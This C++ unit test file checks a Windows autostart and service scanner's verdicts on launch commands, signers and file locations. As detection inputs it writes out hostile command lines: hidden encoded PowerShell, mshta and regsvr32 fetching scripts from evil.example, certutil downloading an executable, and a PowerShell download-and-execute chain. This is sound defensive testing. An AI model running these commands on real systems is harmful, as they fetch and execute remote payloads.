#include "judge/judge.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "judge/testing/fake_facts.h"

namespace wl {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using testing::FakeFacts;

const std::string kMicrosoftRoot(64, 'A');
const std::string kVendorRoot(64, 'B');
const std::string kPlantedRoot(64, 'C');

// The command rules as shipped.
std::string ShippedRules() {
  std::string text;
  std::vector<std::filesystem::path> parts;
  for (const auto& entry : std::filesystem::directory_iterator(WL_COMMAND_RULES_DIR)) parts.push_back(entry.path());
  std::sort(parts.begin(), parts.end());
  for (const auto& part : parts) {
    std::ifstream in(part, std::ios::binary);
    std::stringstream s;
    s << in.rdbuf();
    text += s.str();
  }
  return text;
}

class JudgeTest : public ::testing::Test {
 protected:
  JudgeTest() {
    tables.process = StringTable::FromText(
        "svchost.exe=@Host Process for Windows Services\n"
        "powershell.exe=@Windows PowerShell\n"
        "cmd.exe=@Windows Command Processor\n"
        "rundll32.exe=@Windows host process\n"
        "regsvr32.exe=@Registers COM DLLs\n"
        "mshta.exe=@HTML Application Host\n"
        "wscript.exe=@Windows Script Host\n"
        "certutil.exe=@Certificate utility\n"
        "notepad.exe=@Notepad\n"
        "q.exe=%q: a text tool\n"
        "nl.exe=%nl: a line numberer\n"
        "host.exe=%host: a lookup tool\n"
        "msblast.exe=$Blaster worm\n");
    tables.signers = StringTable::FromText(kMicrosoftRoot + "=Microsoft\n");
    tables.commands = StringTable::FromText(ShippedRules());
    for (const char* name : {"svchost.exe", "powershell.exe", "cmd.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe",
                             "wscript.exe", "certutil.exe", "notepad.exe", "kernel32.dll"})
      facts.AddFile(std::string("C:\\Windows\\System32\\") + name).company = "Microsoft Corporation";
  }

  Judgement Autostart(const std::string& command) { return Judge(tables, facts).Assess({command, Origin::Autostart}); }

  ReferenceTables tables;
  FakeFacts facts;
};

TEST_F(JudgeTest, TheShippedRulesAllRead) {
  const CommandRules rules = ParseCommandRules(tables.commands.Lines());
  EXPECT_EQ(rules.unreadable, 0u);
  EXPECT_GT(rules.rules.size(), 20u);
}

// The entries users found unflagged: each is flagged now, with its reason.
TEST_F(JudgeTest, WhatMalwareStartsIsFlagged) {
  auto encoded = Autostart("powershell.exe -nop -w hidden -enc SQBFAFgA");
  EXPECT_EQ(encoded.verdict, Verdict::Malicious);
  EXPECT_TRUE(encoded.flagged);
  EXPECT_THAT(encoded.reasons, Contains(HasSubstr("encoded PowerShell")));

  facts.AddFile("C:\\Users\\Public\\svchost.exe");
  auto masquerade = Autostart("C:\\Users\\Public\\svchost.exe");
  EXPECT_EQ(masquerade.verdict, Verdict::Suspicious);
  EXPECT_THAT(masquerade.reasons, Contains(HasSubstr("Named like the Windows program svchost.exe")));
  EXPECT_THAT(masquerade.reasons, Contains(HasSubstr("the Public folder")));

  facts.AddFile("C:\\zz\\q.exe");
  facts.AddFile("C:\\zz\\nl.exe");
  for (const char* path : {"C:\\zz\\q.exe", "C:\\zz\\nl.exe"}) {
    auto nameOnly = Autostart(path);
    EXPECT_EQ(nameOnly.verdict, Verdict::Unknown) << path;  // a name alone clears nothing
    EXPECT_TRUE(nameOnly.flagged) << path;
    EXPECT_EQ(nameOnly.signer, "(Not signed)");
  }
  facts.AddFile("C:\\Users\\me\\AppData\\Roaming\\Install\\Host.exe");
  auto rat = Autostart("C:\\Users\\me\\AppData\\Roaming\\Install\\Host.exe");
  EXPECT_EQ(rat.verdict, Verdict::Suspicious);
  EXPECT_THAT(VerdictText(rat), HasSubstr("Not signed, in the user's AppData folder"));

  auto missing = Autostart("C:\\gone\\x.exe -run");
  EXPECT_EQ(missing.verdict, Verdict::Suspicious);
  EXPECT_EQ(missing.signer, "(File not found)");
  EXPECT_EQ(VerdictText(missing), "(Suspicious) File not found");

  facts.AddFile("C:\\Program Files\\Old\\msblast.exe", SignatureState::Verified, "Someone", kVendorRoot);
  EXPECT_EQ(Autostart("\"C:\\Program Files\\Old\\msblast.exe\"").verdict, Verdict::Malicious);
}

TEST_F(JudgeTest, HostsAreJudgedByWhatTheyRun) {
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\x.dll");
  auto rundll = Autostart("rundll32.exe C:\\Users\\me\\AppData\\Local\\x.dll,Start");
  EXPECT_EQ(rundll.payload, "C:\\Users\\me\\AppData\\Local\\x.dll");
  EXPECT_EQ(rundll.judgedFile, rundll.payload);
  EXPECT_EQ(rundll.verdict, Verdict::Suspicious);
  EXPECT_THAT(rundll.reasons, Contains(HasSubstr("DLL export from a folder users can write")));

  EXPECT_EQ(Autostart("mshta.exe http://evil.example/a.hta").verdict, Verdict::Malicious);
  EXPECT_EQ(Autostart("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)").verdict,
            Verdict::Malicious);
  EXPECT_EQ(Autostart("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)").verdict,
            Verdict::Malicious);
  EXPECT_EQ(Autostart("regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll").verdict, Verdict::Malicious);
  EXPECT_EQ(Autostart("certutil.exe -urlcache -split -f http://evil.example/a.exe C:\\x.exe").verdict,
            Verdict::Malicious);
  facts.AddFile("C:\\Users\\me\\AppData\\Roaming\\a.vbs");
  EXPECT_EQ(Autostart("wscript.exe //B C:\\Users\\me\\AppData\\Roaming\\a.vbs").verdict, Verdict::Suspicious);

  // cmd /c chains: each command is judged, the worst counts.
  auto chain = Autostart("cmd.exe /c start \"\" /min powershell -w hidden -c \"iex (iwr http://e.example/p)\"");
  EXPECT_EQ(chain.verdict, Verdict::Malicious);
  auto plain = Autostart("C:\\Windows\\System32\\cmd.exe /c C:\\Windows\\System32\\notepad.exe");
  EXPECT_EQ(plain.verdict, Verdict::Trusted);
  EXPECT_FALSE(plain.flagged);

  // An unquoted path that a planted program cuts short.
  facts.AddFile("C:\\Program Files\\Vendor\\app.exe", SignatureState::Verified, "Vendor Inc.", kVendorRoot);
  facts.AddFile("C:\\Program.exe");
  auto shadowed = Autostart("C:\\Program Files\\Vendor\\app.exe");
  EXPECT_EQ(shadowed.program, "C:\\Program.exe");
  EXPECT_THAT(shadowed.reasons, Contains(HasSubstr("unquoted path")));
}

TEST_F(JudgeTest, SignaturesDecideForVendorsAndAgainstForgeries) {
  facts.AddFile("C:\\Program Files\\Steam\\steam.exe", SignatureState::Verified, "Valve Corp.", kVendorRoot);
  facts.AddFile("C:\\Users\\me\\AppData\\Local\\Vendor\\updater.exe", SignatureState::Verified, "Vendor Inc.",
                kVendorRoot);
  for (const char* path : {"\"C:\\Program Files\\Steam\\steam.exe\" -silent",
                           "C:\\Users\\me\\AppData\\Local\\Vendor\\updater.exe /check"}) {
    auto vendor = Autostart(path);
    EXPECT_EQ(vendor.verdict, Verdict::Trusted) << path;
    EXPECT_FALSE(vendor.flagged) << path;
  }
  EXPECT_EQ(Autostart("\"C:\\Program Files\\Steam\\steam.exe\"").signer, "(Verified) Valve Corp.");
  EXPECT_EQ(VerdictText(Autostart("\"C:\\Program Files\\Steam\\steam.exe\"")), "(Trusted) Valve Corp.");

  facts.AddFile("C:\\Program Files\\Steam\\broken.exe", SignatureState::Broken, "Valve Corp.", kVendorRoot);
  auto broken = Autostart("\"C:\\Program Files\\Steam\\broken.exe\"");
  EXPECT_EQ(broken.verdict, Verdict::Suspicious);
  EXPECT_EQ(broken.signer, "(Signature broken) Valve Corp.");

  // A signer named like Microsoft passes the verifier under a planted root;
  // only Signer.db's roots make it Microsoft.
  facts.AddFile("C:\\Program Files\\Fake\\mssvc.exe", SignatureState::Verified, "Microsoft Corporation", kPlantedRoot);
  auto forged = Autostart("\"C:\\Program Files\\Fake\\mssvc.exe\"");
  EXPECT_EQ(forged.verdict, Verdict::Suspicious);
  EXPECT_EQ(forged.signer, "(Signer not trusted) Microsoft Corporation");
  tables.signers = StringTable::FromText(kMicrosoftRoot + "=Microsoft\n" + kPlantedRoot + "=Microsoft\n");
  EXPECT_EQ(Autostart("\"C:\\Program Files\\Fake\\mssvc.exe\"").verdict, Verdict::Trusted);

  // Version information is the file's own word: claiming Microsoft without
  // Microsoft's signature is a reason, outside Windows' folders.
  facts.AddFile("C:\\Program Files\\Claims\\win.exe").company = "Microsoft Corporation";
  EXPECT_THAT(Autostart("\"C:\\Program Files\\Claims\\win.exe\"").reasons,
              Contains(HasSubstr("Says it is from Microsoft Corporation")));
  // Inside them it is what tells Windows' files where there are no catalogs…
  EXPECT_EQ(Autostart("C:\\Windows\\System32\\notepad.exe").verdict, Verdict::Trusted);
  // …and is not enough where there are.
  facts.catalogs = true;
  EXPECT_EQ(Autostart("C:\\Windows\\System32\\notepad.exe").verdict, Verdict::Suspicious);
  facts.AddFile("C:\\Windows\\System32\\notepad.exe", SignatureState::Verified, "Microsoft Windows", kMicrosoftRoot)
      .company = "Microsoft Corporation";
  auto catalogSigned = Autostart("C:\\Windows\\System32\\notepad.exe");
  EXPECT_EQ(catalogSigned.verdict, Verdict::Trusted);
  EXPECT_TRUE(catalogSigned.windowsFile);
  EXPECT_EQ(FileVerdictText(catalogSigned), "Windows System File");
}

TEST_F(JudgeTest, ServicesAreJudgedByTheirProgramOrServiceDll) {
  Judge judge(tables, facts);
  auto service = [&](const std::string& command, const std::string& dll = {}) {
    return judge.Assess({command, Origin::Service, false, dll});
  };
  facts.AddFile("C:\\Program Files\\Vendor\\svc.exe", SignatureState::Verified, "Vendor Inc.", kVendorRoot);
  EXPECT_FALSE(service("\"C:\\Program Files\\Vendor\\svc.exe\"").flagged);
  facts.AddFile("C:\\Program Files\\Vendor\\unsigned.exe");
  EXPECT_TRUE(service("\"C:\\Program Files\\Vendor\\unsigned.exe\"").flagged);

  auto cmd = service("%SystemRoot%\\System32\\cmd.exe /c powershell -w hidden -enc SQBFAFgA");
  facts.env["SystemRoot"] = "C:\\Windows";
  cmd = service("%SystemRoot%\\System32\\cmd.exe /c powershell -w hidden -enc SQBFAFgA");
  EXPECT_EQ(cmd.verdict, Verdict::Malicious);
  EXPECT_TRUE(cmd.flagged);

  facts.AddFile("C:\\zz\\evil.dll");
  auto hosted = service("C:\\Windows\\System32\\svchost.exe -k netsvcs", "C:\\zz\\evil.dll");
  EXPECT_EQ(hosted.payload, "C:\\zz\\evil.dll");
  EXPECT_EQ(hosted.judgedFile, "C:\\zz\\evil.dll");
  EXPECT_TRUE(hosted.flagged);
  EXPECT_EQ(hosted.signer, "(Not signed)");
  // Windows' own DLL in Windows' folder: not flagged.
  auto own = service("C:\\Windows\\System32\\svchost.exe -k netsvcs", "%SystemRoot%\\System32\\kernel32.dll");
  EXPECT_FALSE(own.flagged);
  EXPECT_EQ(own.verdict, Verdict::Trusted);
}

TEST_F(JudgeTest, EachFileIsVerifiedOncePerStamp) {
  Judge judge(tables, facts);
  facts.AddFile("C:\\Program Files\\A\\a.exe");
  facts.AddFile("C:\\Program Files\\B\\b.exe");
  std::vector<JudgeRequest> requests;
  for (int i = 0; i < 50; ++i) {
    requests.push_back({"\"C:\\Program Files\\A\\a.exe\" /n" + std::to_string(i), Origin::Autostart});
    requests.push_back({"\"C:\\Program Files\\B\\b.exe\"", Origin::Task});
  }
  const auto first = judge.AssessAll(requests);
  ASSERT_EQ(first.size(), requests.size());
  EXPECT_EQ(facts.signatureCalls.load(), 2);
  EXPECT_EQ(judge.Verifications(), 2u);
  judge.AssessAll(requests);
  EXPECT_EQ(facts.signatureCalls.load(), 2);
  // A changed file is verified again.
  facts.files[ComparablePath("C:\\Program Files\\A\\a.exe")].stamp.lastWrite = 2;
  judge.Assess(requests.front());
  EXPECT_EQ(facts.signatureCalls.load(), 3);

  Judge unsigned_(tables, facts, JudgeOptions{false});
  EXPECT_EQ(unsigned_.Assess(requests.front()).signer, "");
  EXPECT_EQ(facts.signatureCalls.load(), 3);
}

}  // namespace
}  // namespace wl
